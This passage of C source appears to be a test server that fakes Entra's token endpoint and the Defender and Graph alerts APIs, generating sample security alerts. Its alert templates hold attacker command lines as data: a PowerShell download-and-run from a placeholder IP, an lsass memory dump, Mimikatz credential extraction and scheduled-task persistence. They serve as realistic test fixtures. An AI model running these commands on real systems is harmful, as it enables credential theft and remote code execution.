/* A fake Entra token endpoint and Defender/Graph alerts API for tests. */

#include <sys/types.h>
#include <sys/queue.h>
#include <sys/socket.h>
#include <netinet/in.h>

#include <ctype.h>
#include <errno.h>
#include <getopt.h>
#include <inttypes.h>
#include <limits.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <strings.h>
#include <time.h>
#include <unistd.h>

#include <event2/buffer.h>
#include <event2/bufferevent.h>
#include <event2/event.h>
#include <event2/http.h>
#include <event2/keyvalq_struct.h>
#include <event2/util.h>
#include <jansson.h>
#include <openssl/crypto.h>
#include <openssl/err.h>
#include <openssl/evp.h>
#include <openssl/hmac.h>
#include <openssl/pem.h>
#include <openssl/rand.h>
#include <openssl/rsa.h>
#include <openssl/x509.h>

#include "jscan.h"
#include "log.h"
#include "util.h"

#define DEF_CLIENT_ID	"00000000-0000-0000-0000-0000000000c1"
#define MDE_CONTEXT	\
    "https://api.securitycenter.microsoft.com/api/$metadata#Alerts"
#define GRAPH_CONTEXT	\
    "https://graph.microsoft.com/v1.0/$metadata#security/alerts_v2"
#define MDE_TOP_MAX	10000
/* alerts_v2: "$top limit 1000" (defender-api.md 5.5). */
#define GRAPH_TOP_MAX	1000
#define LOG_KEEP	100000
#define MAX_PARAMS	32
#define NET_EPOCH	621355968000000000LL	/* .NET ticks at 1970 */
#define TICK_MS		10

enum api {
	API_NONE,
	API_TOKEN,
	API_MDE,
	API_GRAPH,
	API_CONTROL,
};

enum order {
	ORDER_LUT_ASC,
	ORDER_LUT_DESC,
	ORDER_CREATED_ASC,
	ORDER_CREATED_DESC,
};

/* Faults armed for one tenant, either on its API or its token endpoint. */
struct faults {
	int		 throttle_secs;	/* 429 for this long once hit */
	int64_t		 throttle_until;	/* mono ms; 0: not started */
	int		 n500;
	int		 n503;
	int		 n401;
	int		 n403;
	int		 nbadjson;
	int		 slow_ms;
	int		 hostile;	/* enum hostile, H_NONE */
	int		 hostile_arg;
	char		 hostile_to[128];	/* redirect HOST:PORT */
	char		 link_to[128];	/* nextlink-to HOST:PORT */
};

/* Time stamps of the last cap calls, for a sliding-window rate limit. */
struct ring {
	int64_t		*t;
	size_t		 cap;
	size_t		 n;
	size_t		 i;
};

/* A raw member of a control body: key bytes and the JSON value as sent. */
struct ovr {
	char		*key;
	size_t		 klen;
	char		*val;
	size_t		 vlen;
};

struct tenant;

/*
 * One alert, holding its current version.  Static fields are regenerated
 * from seed when rendering; json is the MDE rendering with evidence and
 * [ev_off, ev_end) the evidence array inside it.
 */
struct alert {
	struct tenant	*t;
	uint64_t	 seed;
	uint64_t	 seq;		/* visibility order; 0: not visible */
	char		 id[64];
	int64_t		 created;
	int64_t		 lut;
	int64_t		 first_ev;
	int64_t		 last_ev;
	int64_t		 resolved;
	int64_t		 visible_at;
	int		 cdig;
	int		 ldig;
	int		 tmpl;
	int		 sev;
	int		 status;
	int		 cls;
	int		 analyst;	/* -1: unassigned */
	struct ovr	*ovr;
	size_t		 novr;
	char		*json;
	size_t		 len;
	size_t		 ev_off;
	size_t		 ev_end;
	char		*graph;
	size_t		 glen;
	char		*graph_np;	/* without Prefer, when different */
	size_t		 glen_np;
};

struct version {
	struct alert	*a;
	char		*lut;		/* raw JSON text */
};

struct tenant {
	char		*name;
	char		*client_id;
	char		*secret;
	bool		 unconsented;
	bool		 no_roles;
	bool		 expired_secret;
	bool		 string_expiry;
	struct faults	 api;
	struct faults	 tok;
	struct alert	**v;		/* visible, by (lut, seq) */
	size_t		 n;
	size_t		 cap;
	struct version	*ver;
	size_t		 nver;
	size_t		 capver;
	uint64_t	 requests;
	uint64_t	 token_requests;
	struct ring	 rl_min;
	struct ring	 rl_hour;
	struct ring	 rl_graph;
	struct finc	*inc;		/* Graph incidents, by number - 1 */
	size_t		 ninc;
	struct iver	*iver;		/* every incident version shown */
	size_t		 niver;
	int		 nexpand500;	/* $expand=alerts -> 500 this often */
	bool		 deprecated;	/* answers carry Deprecation, Sunset */
};

/* A Graph incident (POST /_control/incidents). */
struct finc {
	unsigned	 num;		/* its id */
	int64_t		 created;
	int64_t		 lut;
	int		 status;	/* index in inc_status */
	int		 sev;		/* index in sev_graph */
	unsigned	 redirect;	/* merged into this incident; 0 */
	char		**alerts;	/* alert ids */
	size_t		 nalerts;
};

struct iver {
	unsigned	 num;
	int64_t		 lut;
};

struct rng {
	uint64_t	 s;
};

/* A request being answered. */
struct call {
	struct evhttp_request	*req;
	enum api		 api;
	struct tenant		*t;
	bool			 badjson;
	int			 delay_ms;
	int			 hostile;	/* enum hostile to apply */
	int			 hostile_arg;
	char			 uti[24];	/* token issued or used */
};

/* A request held by POST /_control/hold until /_control/release. */
struct held {
	struct evhttp_request	*req;
	struct evhttp_connection *evcon;
	char			*tenant;
	const char		*what;		/* "token" or "alerts" */
	char			*uri;
	const char		*state;		/* held, released, cancelled */
};

/* What to hold: the next n requests of kind what for tenant ("*": all). */
struct hold_arm {
	char		*tenant;
	const char	*what;
	char		*match;		/* URI substring, or NULL */
	int		 n;
};

struct delayed {
	struct evhttp_request	*req;
	struct evbuffer		*body;
	struct event		*ev;
	int			 code;
	TAILQ_ENTRY(delayed)	 entry;
};

struct qparam {
	char		*k;
	char		*v;
	size_t		 vlen;
};

struct query {
	struct qparam	 p[MAX_PARAMS];
	size_t		 n;
};

struct bound {
	bool		 lo_set;
	bool		 lo_incl;
	int64_t		 lo;
	bool		 hi_set;
	bool		 hi_incl;
	int64_t		 hi;
};

struct odata {
	struct bound	 lut;
	struct bound	 created;
	size_t		 top;
	size_t		 skip;
	enum order	 order;
	bool		 expand;
	bool		 count;
	uint64_t	 snap;
};

struct sel {
	struct alert	**v;
	size_t		 n;
	size_t		 total;
	bool		 more;
};

/* Everything the process holds. */
static struct {
	struct event_base	*base;
	struct evhttp		*http;
	struct event		*tick;
	struct event		*sigint;
	struct event		*sigterm;
	int			 port;
	const char		*port_file;
	struct tenant		**tenants;	/* sorted by name */
	size_t			 ntenants;
	const char		*client_id;
	int			 token_lifetime;
	size_t			 prepop;
	int64_t			 spread_ms;
	double			 rate;
	double			 update_rate;
	double			 incident_rate;	/* new incidents/s, any tenant */
	double			 late_fraction;
	int64_t			 late_delay_ms;
	uint64_t		 seed;
	bool			 nextlink;
	size_t			 link_page;	/* MDE: nextLink pages of N */
	int			 limit_minute;
	int			 limit_hour;
	int			 limit_graph;
	int			 verbose;
	struct rng		 rng;		/* alert data */
	struct rng		 xrng;		/* ids of errors, tokens */
	unsigned char		 key[32];	/* token signatures */
	uint64_t		 seq;
	int64_t			 start_ms;
	uint64_t		 generated;
	uint64_t		 updated;
	size_t			 rr;
	struct alert		**pend;	/* late alerts not yet visible */
	size_t			 npend;
	size_t			 cappend;
	char			**log;
	char			**log_ua;	/* User-Agent of each line */
	size_t			 log_i;
	size_t			 log_n;
	uint64_t		 requests;
	uint64_t		 token_requests;
	uint64_t		 api_requests;
	uint64_t		 status[600];
	TAILQ_HEAD(, delayed)	 delayed;
	uint64_t		 accept_encoding;	/* requests asking */
	const char		*token_log;
	char			**log_tok;	/* token issued/used per line */
	struct held		**held;		/* every request ever held */
	size_t			 nheld;
	struct hold_arm		*arms;
	size_t			 narms;
	struct evhttp_request	*unheld;	/* being released */
} F;

/* Alert kinds the generator picks from. */
struct tmpl {
	const char	*title;
	const char	*description;
	const char	*category;
	const char	*source;
	int		 sev;
	const char	*mitre;		/* raw JSON array */
	const char	*family;
	const char	*threat;
	const char	*detector;
	const char	*proc;
	const char	*proc_dir;
	const char	*cmdline;
	const char	*file;
	const char	*file_dir;
	const char	*parent;
	const char	*parent_dir;
};

static const struct tmpl tmpls[] = {
	{ "Low-reputation arbitrary code executed by signed executable",
	  "Binaries signed by Microsoft can be used to run low-reputation "
	  "arbitrary code. This technique hides the execution of malicious "
	  "code within a trusted process. As a result, the trusted process "
	  "might exhibit suspicious behaviors, such as opening a listening "
	  "port or connecting to a command-and-control (C&C) server.",
	  "Execution", "WindowsDefenderAtp", 2,
	  "[\"T1064\",\"T1085\",\"T1220\"]",
	  NULL, NULL, "17e10bbc-3a68-474a-8aad-faef14d43952",
	  "rundll32.exe", "C:\\Windows\\SysWOW64",
	  "rundll32.exe  c:\\temp\\suspicious.dll,RepeatAfterMe",
	  "suspicious.dll", "c:\\temp", "rundll32.exe",
	  "C:\\Windows\\System32" },
	{ "Suspicious 'Meterpreter' behavior was detected",
	  "Malware and unwanted software are undesirable applications that "
	  "perform annoying, disruptive, or harmful actions on affected "
	  "machines.\n\nA malware is considered active if it is found running "
	  "on the machine or it already has persistence mechanisms in place. "
	  "Active malware detections are assigned higher severity ratings.",
	  "SuspiciousActivity", "WindowsDefenderAv", 4, "[]",
	  "Meterpreter", "Behavior:Win32/Meterpreter.gen!A",
	  "6c4a2b58-0b2e-4c3f-9d8e-1f0a3b5c7d91",
	  "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
	  "powershell.exe -nop -w hidden -c \"IEX (New-Object Net.WebClient)."
	  "DownloadString('http://198.51.100.7/a')\"",
	  "a.ps1", "C:\\Users\\Public", "cmd.exe", "C:\\Windows\\System32" },
	{ "Suspicious PowerShell command line",
	  "A suspicious PowerShell activity was observed on the machine. This "
	  "behavior may indicate that PowerShell was used during installation, "
	  "exploration, or in some cases in lateral movement activities.",
	  "Execution", "WindowsDefenderAtp", 3, "[\"T1059.001\"]",
	  NULL, NULL, "2f7c1b44-5d1e-4a0e-8c6b-0a9e7d3f2c18",
	  "powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
	  "powershell.exe -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
	  "update.ps1", "C:\\ProgramData", "winword.exe",
	  "C:\\Program Files\\Microsoft Office\\root\\Office16" },
	{ "Suspicious execution of hidden file",
	  "A hidden file has been launched. This activity could indicate a "
	  "compromised host. Attackers often hide files associated with "
	  "malicious tools to evade file system inspection and defenses.",
	  "DefenseEvasion", "WindowsDefenderAv", 2, "[\"T1564.001\"]",
	  NULL, NULL, "e0da400f-affd-43ef-b1d5-afc2eb6f2756",
	  "wscript.exe", "C:\\Windows\\System32",
	  "wscript.exe \"C:\\Users\\Public\\.cache\\run.vbs\"",
	  "run.vbs", "C:\\Users\\Public\\.cache", "explorer.exe",
	  "C:\\Windows" },
	{ "Ransomware behavior detected in the file system",
	  "A process encrypted many files in a short time and dropped ransom "
	  "notes. Isolate the device and investigate the process tree.",
	  "Impact", "WindowsDefenderAtp", 4, "[\"T1486\",\"T1490\"]",
	  "Ryuk", "Ransom:Win32/Ryuk.AA",
	  "9b3e6f10-7c2d-4e8a-b1f5-3d6a8c0e2f47",
	  "svch0st.exe", "C:\\Users\\Public\\Libraries",
	  "svch0st.exe -e -p C:\\", "RyukReadMe.txt", "C:\\Shares\\Finance",
	  "cmd.exe", "C:\\Windows\\System32" },
	{ "Credential dumping activity observed",
	  "A process accessed the memory of the Local Security Authority "
	  "Subsystem Service (lsass.exe), possibly to dump credentials.",
	  "CredentialAccess", "WindowsDefenderAtp", 4, "[\"T1003.001\"]",
	  NULL, NULL, "4a8d2c61-9e0f-4b7a-a3c5-6d1e8f2b0c93",
	  "procdump64.exe", "C:\\Temp",
	  "procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\lsass.dmp",
	  "lsass.dmp", "C:\\Temp", "cmd.exe", "C:\\Windows\\System32" },
	{ "'Mimikatz' credential theft tool",
	  "The credential theft tool Mimikatz was detected on this machine.",
	  "CredentialAccess", "WindowsDefenderAv", 4, "[\"T1003\"]",
	  "Mimikatz", "HackTool:Win32/Mimikatz.D",
	  "b7e2c9a4-1f3d-4c6e-8a0b-5d9f2e7c1a36",
	  "mimikatz.exe", "C:\\Users\\Public",
	  "mimikatz.exe \"privilege::debug\" \"sekurlsa::logonpasswords\" exit",
	  "mimikatz.exe", "C:\\Users\\Public", "powershell.exe",
	  "C:\\Windows\\System32\\WindowsPowerShell\\v1.0" },
	{ "Suspicious URL clicked",
	  "A user opened a potentially malicious URL that was flagged by "
	  "SmartScreen.",
	  "InitialAccess", "WindowsDefenderSmartScreen", 1, "[\"T1566.002\"]",
	  NULL, NULL, "0f5a3c82-6b1e-4d9f-a7c2-8e4b1d6f3a05",
	  "msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application",
	  "msedge.exe --single-argument https://login.example-phish.test/o365",
	  "invoice.html", "C:\\Users\\Public\\Downloads", "outlook.exe",
	  "C:\\Program Files\\Microsoft Office\\root\\Office16" },
	{ "Unusual scheduled task created",
	  "A custom detection rule matched: a scheduled task that runs a "
	  "script from a user-writable folder was created.",
	  "Persistence", "CustomDetection", 3, "[\"T1053.005\"]",
	  NULL, NULL, "d3c1e5a7-2b4f-4e6a-9c8d-7f0b2a4e6c18",
	  "schtasks.exe", "C:\\Windows\\System32",
	  "schtasks.exe /create /tn \"Updater\" /tr \"C:\\ProgramData\\u.bat\" "
	  "/sc minute /mo 5", "u.bat", "C:\\ProgramData", "cmd.exe",
	  "C:\\Windows\\System32" },
	{ "Anomalous account lookups",
	  "An unusual number of account and group discovery commands was run.",
	  "Discovery", "WindowsDefenderAtp", 2, "[\"T1087.002\",\"T1069.002\"]",
	  NULL, NULL, "5e9b7d31-8a2c-4f6e-b0d4-1c3a5e7f9b20",
	  "net.exe", "C:\\Windows\\System32",
	  "net group \"Domain Admins\" /domain", "net.exe",
	  "C:\\Windows\\System32", "cmd.exe", "C:\\Windows\\System32" },
};

static const char *sev_mde[] = {
	"UnSpecified", "Informational", "Low", "Medium", "High"
};
static const char *sev_graph[] = {
	"unknown", "informational", "low", "medium", "high"
};
static const char *status_mde[] = { "New", "InProgress", "Resolved" };
static const char *status_graph[] = { "new", "inProgress", "resolved" };

/* Classification and determination pairs; index 0 is "not set". */
static const struct {
	const char	*cls, *det, *gcls, *gdet;
} clss[] = {
	{ NULL, NULL, "unknown", "unknown" },
	{ "TruePositive", "Malware", "truePositive", "malware" },
	{ "TruePositive", "MultiStagedAttack", "truePositive",
	  "multiStagedAttack" },
	{ "FalsePositive", "Clean", "falsePositive", "clean" },
	{ "InformationalExpectedActivity", "SecurityTesting",
	  "informationalExpectedActivity", "securityTesting" },
	{ "FalsePositive", "InsufficientData", "falsePositive",
	  "insufficientData" },
};

static const struct {
	const char	*mde, *graph;
} sources[] = {
	{ "WindowsDefenderAtp", "microsoftDefenderForEndpoint" },
	{ "WindowsDefenderAv", "antivirus" },
	{ "WindowsDefenderSmartScreen", "smartScreen" },
	{ "CustomerTI", "customTi" },
	{ "CustomDetection", "customDetection" },
	{ "OfficeATP", "microsoftDefenderForOffice365" },
	{ "AutomatedInvestigation", "automatedInvestigation" },
	{ "ThreatExperts", "microsoftThreatExperts" },
	{ "MTP", "microsoft365Defender" },
};

/*
 * The Defender products behind Graph alerts: serviceSource and the
 * detectionSource of their alerts (Endpoint: the template's).  A newer
 * product's values follow unknownFutureValue in Graph's evolvable enums
 * and are sent only to a client asking with Prefer:
 * include-unknown-enum-members; to others they read unknownFutureValue.
 */
static const struct {
	const char	*svc, *det;
	bool		 newer;
} products[] = {
	{ "microsoftDefenderForEndpoint", NULL, false },
	{ "microsoftDefenderForIdentity", "microsoftDefenderForIdentity",
	  false },
	{ "microsoftDefenderForCloudApps", "cloudAppSecurity", false },
	{ "microsoftDefenderForOffice365", "microsoftDefenderForOffice365",
	  false },
	{ "azureAdIdentityProtection", "azureAdIdentityProtection", false },
	{ "dataLossPrevention", "microsoftDataLossPrevention", false },
	{ "microsoftDefenderForCloud", "microsoftDefenderForServers", true },
};

static const char *inv_states[] = {
	"Queued", "Running", "PendingApproval", "SuccessfullyRemediated",
	"Benign", "UnsupportedAlertType", "TerminatedBySystem",
	"PartiallyRemediated"
};
static const char *rbac_groups[] = {
	"UnassignedGroup", "Workstations", "Servers", "Finance",
	"Domain Controllers"
};
static const char *users[] = {
	"jdoe", "asmith", "mgarcia", "lchen", "svc_backup", "pnovak", "kdubois",
	"admin.local"
};
static const char *analysts[] = {
	"secop123@contoso.com", "analyst1@mssp.example", "tier2@mssp.example"
};

/* The MDE keys in the order of the documented sample. */
static const char *mde_keys[] = {
	"id", "incidentId", "investigationId", "assignedTo", "severity",
	"status", "classification", "determination", "investigationState",
	"detectionSource", "detectorId", "category", "threatFamilyName",
	"title", "description", "alertCreationTime", "firstEventTime",
	"lastEventTime", "lastUpdateTime", "resolvedTime", "machineId",
	"computerDnsName", "rbacGroupName", "aadTenantId", "threatName",
	"mitreTechniques", "relatedUser", "comments", "evidence",
};

/* How a Graph member is derived from an MDE override. */
enum xform {
	X_RAW,
	X_NUMSTR,	/* number -> string */
	X_ENUM,		/* PascalCase -> camelCase */
	X_ENUM_NULL,	/* null -> "unknown", else X_ENUM */
	X_SOURCE,	/* detectionSource mapping */
};

static const struct gkey {
	const char	*graph;
	const char	*mde;
	enum xform	 x;
} graph_keys[] = {
	{ "id", "id", X_RAW },
	{ "providerAlertId", "id", X_RAW },
	{ "incidentId", "incidentId", X_NUMSTR },
	{ "status", "status", X_ENUM },
	{ "severity", "severity", X_ENUM },
	{ "classification", "classification", X_ENUM_NULL },
	{ "determination", "determination", X_ENUM_NULL },
	{ "serviceSource", NULL, X_RAW },
	{ "detectionSource", "detectionSource", X_SOURCE },
	{ "detectorId", "detectorId", X_RAW },
	{ "tenantId", "aadTenantId", X_RAW },
	{ "title", "title", X_RAW },
	{ "description", "description", X_RAW },
	{ "recommendedActions", NULL, X_RAW },
	{ "category", "category", X_RAW },
	{ "assignedTo", "assignedTo", X_RAW },
	{ "alertWebUrl", NULL, X_RAW },
	{ "incidentWebUrl", NULL, X_RAW },
	{ "actorDisplayName", NULL, X_RAW },
	{ "threatDisplayName", "threatName", X_RAW },
	{ "threatFamilyName", "threatFamilyName", X_RAW },
	{ "mitreTechniques", "mitreTechniques", X_RAW },
	{ "createdDateTime", "alertCreationTime", X_RAW },
	{ "lastUpdateDateTime", "lastUpdateTime", X_RAW },
	{ "resolvedDateTime", "resolvedTime", X_RAW },
	{ "firstActivityDateTime", "firstEventTime", X_RAW },
	{ "lastActivityDateTime", "lastEventTime", X_RAW },
	{ "comments", "comments", X_RAW },
	{ "evidence", NULL, X_RAW },
	{ "systemTags", NULL, X_RAW },
};

static void	 reply(struct call *, int, struct evbuffer *);

/* splitmix64: small, fast and good enough for test data. */
static uint64_t
rng_next(struct rng *r)
{
	uint64_t	 z;

	z = (r->s += 0x9e3779b97f4a7c15ULL);
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

static uint64_t
rng_below(struct rng *r, uint64_t n)
{
	return n == 0 ? 0 : rng_next(r) % n;
}

static double
rng_unit(struct rng *r)
{
	return (double)(rng_next(r) >> 11) * (1.0 / 9007199254740992.0);
}

static void
rng_hex(struct rng *r, char *out, size_t n)
{
	static const char	 hex[] = "0123456789abcdef";
	size_t			 i;

	for (i = 0; i < n; i++)
		out[i] = hex[rng_next(r) & 15];
	out[n] = '\0';
}

static void
rng_uuid(struct rng *r, char out[37])
{
	rng_hex(r, out, 36);
	out[8] = out[13] = out[18] = out[23] = '-';
	out[14] = '4';
	out[19] = "89ab"[rng_next(r) & 3];
}

/* Fractional digits of a time stamp: mostly 7, often fewer. */
static int
rng_digits(struct rng *r)
{
	static const int	 w[] = { 7, 7, 7, 7, 7, 7, 7, 7, 6, 5, 5, 4, 3,
	    3, 2, 2, 2, 1, 1, 0 };

	return w[rng_below(r, nitems(w))];
}

static int64_t
ipow10(int n)
{
	int64_t	 v = 1;

	while (n-- > 0)
		v *= 10;
	return v;
}

static int64_t
ts_trunc(int64_t t, int dig)
{
	static const int64_t	 p[] = { 10000000, 1000000, 100000, 10000,
	    1000, 100, 10, 1 };

	return t - t % p[dig];
}

static void
put_digits(char *out, unsigned v, int n)
{
	while (n-- > 0) {
		out[n] = (char)('0' + v % 10);
		v /= 10;
	}
}

/*
 * Format with dig (0-7) fractional digits and Z; out has 32 bytes.  Done
 * by hand (days to civil date) because rendering calls it a lot.
 */
static void
ts_text(int64_t t, int dig, char *out)
{
	int64_t		 secs, days, z, era, y;
	unsigned	 doe, yoe, doy, mp, d, m, sod, frac;

	secs = t / TICKS_PER_SEC;
	frac = (unsigned)(t % TICKS_PER_SEC);
	days = secs / 86400;
	sod = (unsigned)(secs % 86400);
	z = days + 719468;
	era = (z >= 0 ? z : z - 146096) / 146097;
	doe = (unsigned)(z - era * 146097);
	yoe = (doe - doe / 1460 + doe / 36524 - doe / 146096) / 365;
	y = (int64_t)yoe + era * 400;
	doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
	mp = (5 * doy + 2) / 153;
	d = doy - (153 * mp + 2) / 5 + 1;
	m = mp < 10 ? mp + 3 : mp - 9;
	y += m <= 2;
	put_digits(out, (unsigned)y, 4);
	out[4] = '-';
	put_digits(out + 5, m, 2);
	out[7] = '-';
	put_digits(out + 8, d, 2);
	out[10] = 'T';
	put_digits(out + 11, sod / 3600, 2);
	out[13] = ':';
	put_digits(out + 14, sod / 60 % 60, 2);
	out[16] = ':';
	put_digits(out + 17, sod % 60, 2);
	if (dig > 0) {
		out[19] = '.';
		put_digits(out + 20, frac / (unsigned)(TICKS_PER_SEC /
		    ipow10(dig)), dig);
		out[20 + dig] = 'Z';
		out[21 + dig] = '\0';
	} else {
		out[19] = 'Z';
		out[20] = '\0';
	}
}

/* Entra's "2016-01-09 02:02:12Z". */
static void
ts_entra(char *out)
{
	char	 tmp[40];

	ts_format(ts_now(), tmp, sizeof tmp);
	memcpy(out, tmp, 19);
	out[10] = ' ';
	out[19] = 'Z';
	out[20] = '\0';
}

/* A JSON string of n bytes; bytes above 0x7f pass through. */
static void
json_strn(struct buf *b, const char *s, size_t n)
{
	static const char	 hex[] = "0123456789abcdef";
	size_t			 i, run;
	unsigned char		 c;
	char			 e[6];

	buf_reserve(b, n + 2);
	buf_addc(b, '"');
	for (i = 0; i < n; i++) {
		for (run = i; run < n; run++) {
			c = (unsigned char)s[run];
			if (c < 0x20 || c == '"' || c == '\\')
				break;
		}
		if (run > i)
			buf_add(b, s + i, run - i);
		if ((i = run) == n)
			break;
		c = (unsigned char)s[i];
		e[0] = '\\';
		if (c == '"' || c == '\\' || c == '\n' || c == '\r' ||
		    c == '\t') {
			e[1] = c == '\n' ? 'n' : c == '\r' ? 'r' :
			    c == '\t' ? 't' : (char)c;
			buf_add(b, e, 2);
		} else {
			memcpy(e + 1, "u00", 3);
			e[4] = hex[c >> 4];
			e[5] = hex[c & 15];
			buf_add(b, e, 6);
		}
	}
	buf_addc(b, '"');
}

/* A JSON string, or null for NULL. */
static void
json_str(struct buf *b, const char *s)
{
	if (s == NULL)
		buf_adds(b, "null");
	else
		json_strn(b, s, strlen(s));
}

static void
json_ts(struct buf *b, int64_t t, int dig)
{
	char	 s[40];
	size_t	 n;

	if (t == TICKS_NONE) {
		buf_adds(b, "null");
		return;
	}
	s[0] = '"';
	ts_text(t, dig, s + 1);
	n = strlen(s);
	s[n] = '"';
	buf_add(b, s, n + 1);
}

static void
b64u_enc(struct buf *b, const void *p, size_t n)
{
	static const char	 tab[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZ"
	    "abcdefghijklmnopqrstuvwxyz0123456789-_";
	const unsigned char	*s = p;
	uint32_t		 v;
	size_t			 i;

	for (i = 0; i + 2 < n; i += 3) {
		v = (uint32_t)s[i] << 16 | (uint32_t)s[i + 1] << 8 | s[i + 2];
		buf_addc(b, tab[v >> 18]);
		buf_addc(b, tab[(v >> 12) & 63]);
		buf_addc(b, tab[(v >> 6) & 63]);
		buf_addc(b, tab[v & 63]);
	}
	if (n - i == 1) {
		v = (uint32_t)s[i] << 16;
		buf_addc(b, tab[v >> 18]);
		buf_addc(b, tab[(v >> 12) & 63]);
	} else if (n - i == 2) {
		v = (uint32_t)s[i] << 16 | (uint32_t)s[i + 1] << 8;
		buf_addc(b, tab[v >> 18]);
		buf_addc(b, tab[(v >> 12) & 63]);
		buf_addc(b, tab[(v >> 6) & 63]);
	}
}

/* Decode base64 in either alphabet, padding optional; 0 ok. */
static int
b64_dec(const char *s, size_t n, struct buf *out)
{
	uint32_t	 v = 0;
	int		 bits = 0, d;
	size_t		 i;
	char		 c;

	for (i = 0; i < n; i++) {
		c = s[i];
		if (c >= 'A' && c <= 'Z')
			d = c - 'A';
		else if (c >= 'a' && c <= 'z')
			d = c - 'a' + 26;
		else if (c >= '0' && c <= '9')
			d = c - '0' + 52;
		else if (c == '+' || c == '-')
			d = 62;
		else if (c == '/' || c == '_')
			d = 63;
		else if (c == '=')
			break;
		else
			return -1;
		v = v << 6 | (uint32_t)d;
		bits += 6;
		if (bits >= 8) {
			bits -= 8;
			buf_addc(out, (char)(v >> bits));
		}
	}
	return 0;
}

/* Is s a name we accept for tenants: [A-Za-z0-9._-]{1,128}? */
static bool
name_valid(const char *s)
{
	size_t	 n = strlen(s);

	if (n == 0 || n > 128)
		return false;
	return strspn(s, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
	    "0123456789._-") == n;
}

/*
 * Alerts.
 */

static const struct ovr *
ovr_find(const struct alert *a, const char *key)
{
	size_t	 i, n = strlen(key);

	for (i = 0; i < a->novr; i++) {
		if (a->ovr[i].klen == n && memcmp(a->ovr[i].key, key, n) == 0)
			return &a->ovr[i];
	}
	return NULL;
}

/* Set key to the raw JSON value val, replacing an earlier one. */
static void
ovr_set(struct alert *a, const char *key, size_t klen, const char *val,
    size_t vlen)
{
	struct ovr	*o;
	size_t		 i;

	for (i = 0; i < a->novr; i++) {
		o = &a->ovr[i];
		if (o->klen == klen && memcmp(o->key, key, klen) == 0) {
			free(o->val);
			o->val = xstrndup(val, vlen);
			o->vlen = vlen;
			return;
		}
	}
	a->ovr = xreallocarray(a->ovr, a->novr + 1, sizeof *a->ovr);
	o = &a->ovr[a->novr++];
	o->key = xstrndup(key, klen);
	o->klen = klen;
	o->val = xmalloc(vlen + 1);
	memcpy(o->val, val, vlen);
	o->val[vlen] = '\0';
	o->vlen = vlen;
}

static void
ovr_drop(struct alert *a, const char *key)
{
	struct ovr	*o;

	if ((o = (struct ovr *)ovr_find(a, key)) == NULL)
		return;
	free(o->key);
	free(o->val);
	*o = a->ovr[--a->novr];
}

/* The text inside a raw JSON string without escapes, for ids and times. */
static bool
ovr_plain(const struct ovr *o, const char **p, size_t *n)
{
	if (o->vlen < 2 || o->val[0] != '"' || o->val[o->vlen - 1] != '"' ||
	    memchr(o->val, '\\', o->vlen) != NULL)
		return false;
	*p = o->val + 1;
	*n = o->vlen - 2;
	return true;
}

static bool
key_known(const char *k, size_t n)
{
	size_t	 i;

	for (i = 0; i < nitems(mde_keys); i++) {
		if (strlen(mde_keys[i]) == n && memcmp(mde_keys[i], k, n) == 0)
			return true;
	}
	for (i = 0; i < nitems(graph_keys); i++) {
		if (strlen(graph_keys[i].graph) == n &&
		    memcmp(graph_keys[i].graph, k, n) == 0)
			return true;
	}
	return false;
}

/* Writes members of one object, with commas. */
struct jw {
	struct buf	*b;
	int		 n;
};

static void
jw_key(struct jw *w, const char *key)
{
	size_t	 n = strlen(key);
	char	*p;

	buf_reserve(w->b, n + 4);
	p = w->b->data + w->b->len;
	if (w->n++ > 0)
		*p++ = ',';
	*p++ = '"';
	memcpy(p, key, n);
	p += n;
	*p++ = '"';
	*p++ = ':';
	*p = '\0';
	w->b->len = p - w->b->data;
}

/* Start member key; 0 when an override already gave its value. */
static int
jw_field(struct jw *w, const struct alert *a, const char *key)
{
	const struct ovr	*o;

	jw_key(w, key);
	if (a->novr == 0 || (o = ovr_find(a, key)) == NULL)
		return 1;
	buf_add(w->b, o->val, o->vlen);
	return 0;
}

static void
jw_str(struct jw *w, const char *key, const char *v)
{
	jw_key(w, key);
	json_str(w->b, v);
}

static void
jw_ts(struct jw *w, const char *key, int64_t t, int dig)
{
	jw_key(w, key);
	json_ts(w->b, t, dig);
}

/* Members the body gave that neither API knows, as sent. */
static void
jw_extras(struct jw *w, const struct alert *a)
{
	const struct ovr	*o;
	size_t			 i;

	for (i = 0; i < a->novr; i++) {
		o = &a->ovr[i];
		if (key_known(o->key, o->klen))
			continue;
		if (w->n++ > 0)
			buf_addc(w->b, ',');
		buf_addc(w->b, '"');
		buf_add(w->b, o->key, o->klen);
		buf_adds(w->b, "\":");
		buf_add(w->b, o->val, o->vlen);
	}
}

/* Values regenerated from an alert's seed at every rendering. */
struct facts {
	const struct tmpl *tp;
	long long	 incident;
	long long	 investigation;	/* -1: null */
	const char	*inv_state;
	const char	*rbac;
	const char	*user;
	char		 host[160];
	char		 machine[41];
	char		 sid[64];
	char		 aad_user[37];
	char		 sha1p[41], sha256p[65];
	char		 sha1f[41], sha256f[65];
	char		 dev_uuid[37];
	int		 pid, ppid;
	int64_t		 ev_time, pctime, ppctime;
	int		 ev_dig, pc_dig, ppc_dig, fe_dig, le_dig;
	bool		 comment;
	int		 os_build;
	unsigned	 product;	/* index in products[] */
	bool		 prefer;	/* render for a Prefer client */
};

static void
facts_make(const struct alert *a, struct facts *f)
{
	struct rng	 r = { a->seed }, hr;
	unsigned	 h;

	f->tp = &tmpls[a->tmpl];
	f->incident = 1000 + (long long)rng_below(&r, 2000000);
	f->investigation = rng_below(&r, 3) == 0 ? -1 :
	    100000 + (long long)rng_below(&r, 900000);
	f->inv_state = inv_states[rng_below(&r, nitems(inv_states))];
	f->rbac = rbac_groups[rng_below(&r, nitems(rbac_groups))];
	f->user = users[rng_below(&r, nitems(users))];
	h = (unsigned)rng_below(&r, 500);
	snprintf(f->host, sizeof f->host, "%s-%04u.%s.corp.example",
